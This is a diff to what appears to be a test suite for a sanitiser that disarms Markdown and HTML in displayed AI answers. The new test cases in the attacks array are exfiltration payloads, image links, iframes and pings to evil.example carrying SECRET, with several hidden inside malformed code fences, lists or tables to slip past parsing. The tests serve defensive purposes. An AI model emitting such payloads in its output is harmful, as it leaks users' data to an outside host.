@@ -32,18 +32,37 @@ const attacks = [
   'ftp://evil.example/SECRET',
   '<iframe src="https://evil.example/SECRET"></iframe>',
   '<a ping=https://evil.example/SECRET>',
+  // Code that is none: who shows Markdown sees its end elsewhere.
+  '\\` ![x](https://evil.example/SECRET) `',
+  '> ```\n![x](https://evil.example/?d=SECRET)\n```',
+  '- ```\n![x](https://evil.example/?d=SECRET)\n```',
+  '1. a\n\n   ```\n![x](https://evil.example/?d=SECRET)\n   ```',
+  'para\n     ```\n![x](https://evil.example/SECRET)\n',
+  ' ```\ncode\n```\n![x](https://evil.example/SECRET)\n```',
+  '| ` | ![x](https://evil.example/SECRET) ` |\n|-|-|',
+  '```a`b\n![x](https://evil.example/SECRET)\n```',
+  '~~~\ncode\n```\n![x](https://evil.example/?d=SECRET)\n~~~',
+  '``` \n<img src="https://evil.example/?d=SECRET">\n```',
 ];
 
 describe('an answer that is shown', () => {
   it.each(attacks)('carries nothing out: %s', (attack) => {
     const shown = disarm(attack);
-    expect(shown).not.toMatch(/SECRET[^(]*$|:\/\/evil|!\[|<(?:img|iframe|a)\b/);
+    expect(shown).not.toMatch(/\/\/evil[^\s]*SECRET|!\[|<(?:img|iframe|a)\b|(?:javascript|data):\S*SECRET/);
   });
 
   it('is the same however it is cut', () => {
     fc.assert(
       fc.property(
-        fc.constantFrom(...attacks, 'a `b` c', '```yaml\nurl: https://x/y?z\n```\nend', '~~~\n![x](http://h/p)\n~~~'),
+        fc.constantFrom(
+          ...attacks,
+          'a `b` c',
+          '```yaml\nurl: https://x/y?z\n```\nend',
+          '~~~\n![x](http://h/p)\n~~~',
+          'a `b|c` d ``e ` f`` g',
+          'the data: field, `x',
+          '[a] b [c]: d',
+        ),
         fc.array(fc.nat(200)),
         (text, cuts) => {
           expect(inPieces(text, cuts)).toBe(disarm(text));
@@ -54,7 +73,7 @@ describe('an answer that is shown', () => {
 
   it('keeps code, prose and links to the documentation as they are', () => {
     const text =
-      'Set **image** to `https://registry.example/a?b`:\n\n```yaml\nimage: https://registry.example/app\n```\nSee https://kubernetes.io/docs/concepts/ - a < b, x[0]: y.\n';
+      'Set **image** to `https://registry.example/a/b`:\n\n```yaml\nimage: https://registry.example/app\n```\nSee https://kubernetes.io/docs/concepts/ - a < b, x[0]: y; the data: field, http and `a | b`.\n1. [x] done: `kubectl -n shop get po`\n';
     expect(disarm(text)).toBe(text);
   });
 });
